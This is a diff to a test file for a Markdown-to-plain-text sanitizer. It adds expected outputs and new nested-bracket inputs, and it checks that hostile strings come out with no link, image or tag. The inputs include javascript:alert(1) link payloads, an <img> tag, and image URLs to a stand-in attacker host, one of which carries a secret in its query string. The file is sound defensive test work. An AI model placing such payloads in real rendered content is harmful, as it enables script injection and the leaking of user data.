@@ -6,7 +6,8 @@ describe('plain text', () => {
     ['**Bold** and *slanted* and _so_ and `code`', 'Bold and slanted and so and `code`'],
     ['snake_case_name and 2 * 3 * 4', 'snake_case_name and 2 * 3 * 4'],
     ['[text](https://a.example/b_(c))', 'text'],
-    ['[text][ref] and [x](javascript:alert(1))', 'text and x'],
+    // Without a definition, a reference is text.
+    ['[text][ref] and [x](javascript:alert(1))', '[text] [ref] and x'],
     ['![](https://evil.example/?d=SECRET) seen', 'seen'],
     ['![alt](https://evil.example/a.png "t") seen', 'seen'],
     ['[![logo](https://evil.example/p.png)](https://evil.example)', ''],
@@ -28,6 +29,9 @@ describe('plain text', () => {
     '[[x]](javascript:alert(1))',
     '<<img src=x>>',
     '[x] (y)[z]: https://evil.example',
+    '[x][](y)(javascript:alert(1))',
+    '[x![](y)](z)(javascript:alert(1))',
+    '[x]<b>(javascript:alert(1))',
   ]) {
     it(`of ${hostile} contains no link, image or tag`, () => {
       const text = plainText(hostile);
